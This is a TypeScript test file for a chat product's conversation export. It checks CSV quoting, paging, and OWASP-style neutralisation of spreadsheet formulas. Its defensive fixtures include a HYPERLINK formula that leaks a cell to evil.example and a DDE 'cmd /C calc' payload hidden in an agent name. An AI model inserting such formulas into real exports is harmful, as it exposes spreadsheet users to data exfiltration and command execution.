import type { AdminConversation, Message } from '@palaver/contracts';
import { describe, expect, it } from 'vitest';
import { type ConversationSource, csvField, exportConversations } from './conversation-export';

const message = (id: string, role: Message['role'], text: string): Message => ({
  object: 'message',
  id,
  createdAt: '2026-01-01T00:00:00.000Z',
  chatId: 'c',
  role,
  parts: [{ type: 'text', text }],
  status: 'complete',
  error: null,
  feedback: null,
  feedbackAt: null,
  metadata: {
    humanAgent: role === 'human_agent' ? { name: 'Ada', image: null } : null,
    pageUrl: null,
    pageTitle: null,
    textSelection: null,
  },
});

const conversation = (id: string, messages: Message[]): AdminConversation => ({
  object: 'conversation',
  id,
  createdAt: '2026-01-01T00:00:00.000Z',
  updatedAt: '2026-01-01T00:00:00.000Z',
  status: 'open',
  closedAt: null,
  closeReason: null,
  lastInteractionAt: '2026-01-01T00:00:00.000Z',
  title: null,
  visitorId: 'v',
  pageUrl: null,
  messageCount: messages.length,
  messages,
});

/** `count` conversations of one message each, served in pages after a cursor as the conversation service does. */
const source = (count: number): ConversationSource & { pages: number } => {
  const all = Array.from({ length: count }, (_, i) => conversation(`c${i}`, [message(`m${i}`, 'user', `hello ${i}`)]));
  const s = {
    pages: 0,
    async page(_filter: object, after: { id: string } | null, limit: number) {
      s.pages++;
      const from = after ? all.findIndex((c) => c.id === after.id) + 1 : 0;
      const data = all.slice(from, from + limit);
      return { data, next: data.length === limit ? { createdAt: data.at(-1)!.createdAt, id: data.at(-1)!.id } : null };
    },
    async get(id: string) {
      return all.find((c) => c.id === id)!;
    },
  };
  return s;
};

const collect = async (chunks: AsyncGenerator<string>) => {
  let text = '';
  for await (const chunk of chunks) text += chunk;
  return text;
};

describe('conversation export', () => {
  it('quotes CSV fields with commas, quotes or line breaks, and only those', () => {
    expect(csvField('plain')).toBe('plain');
    expect(csvField('a, b')).toBe('"a, b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField('two\nlines')).toBe('"two\nlines"');
    expect(csvField(null)).toBe('');
  });

  it('neutralises fields a spreadsheet would run as formulas (OWASP): a leading quote, the field quoted', () => {
    expect(csvField('=HYPERLINK("https://evil.example/?d="&A1,"click")')).toBe(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")"`);
    for (const start of ['+', '-', '@', '\t', '\r']) expect(csvField(`${start}1+1`)).toBe(`"'${start}1+1"`);
    expect(csvField('1 = 1')).toBe('1 = 1');
  });

  it('neutralises a visitor message and an agent name that start a formula in the CSV export', async () => {
    const agent = message('m2', 'human_agent', 'Hello');
    const agentMessage = {
      ...agent,
      metadata: { ...(agent.metadata as object), humanAgent: { name: '@SUM(1+1)*cmd|" /C calc"!A0', image: null } },
    } as Message;
    const s: ConversationSource = {
      page: async () => ({ data: [conversation('c1', [])], next: null }),
      get: async () => conversation('c1', [message('m1', 'user', '=HYPERLINK("https://evil.example/?d="&A1,"click")'), agentMessage]),
    };
    const rows = (await collect(exportConversations(s, {}, 'csv'))).split('\r\n');
    expect(rows[1]).toBe(
      `c1,open,v,2026-01-01T00:00:00.000Z,m1,2026-01-01T00:00:00.000Z,user,"'=HYPERLINK(""https://evil.example/?d=""&A1,""click"")",,`,
    );
    expect(rows[2]).toBe(
      `c1,open,v,2026-01-01T00:00:00.000Z,m2,2026-01-01T00:00:00.000Z,human_agent,Hello,,"'@SUM(1+1)*cmd|"" /C calc""!A0"`,
    );
  });

  it('pages through every conversation: one NDJSON line each', async () => {
    const s = source(205);
    const lines = (await collect(exportConversations(s, {}, 'ndjson'))).trim().split('\n');
    expect(lines).toHaveLength(205);
    expect(JSON.parse(lines[204]!).id).toBe('c204');
    expect(s.pages).toBe(3);
  });

  it('writes one CSV row per message under the header, with the agent’s name', async () => {
    const s: ConversationSource = {
      page: async () => ({ data: [conversation('c1', [])], next: null }),
      get: async () => conversation('c1', [message('m1', 'user', 'Hi, "there"'), message('m2', 'human_agent', 'Hello')]),
    };
    const rows = (await collect(exportConversations(s, {}, 'csv'))).split('\r\n');
    expect(rows[0]).toMatch(/^conversationId,/);
    expect(rows[1]).toBe('c1,open,v,2026-01-01T00:00:00.000Z,m1,2026-01-01T00:00:00.000Z,user,"Hi, ""there""",,');
    expect(rows[2]).toBe('c1,open,v,2026-01-01T00:00:00.000Z,m2,2026-01-01T00:00:00.000Z,human_agent,Hello,,Ada');
    expect(rows[3]).toBe('');
  });
});
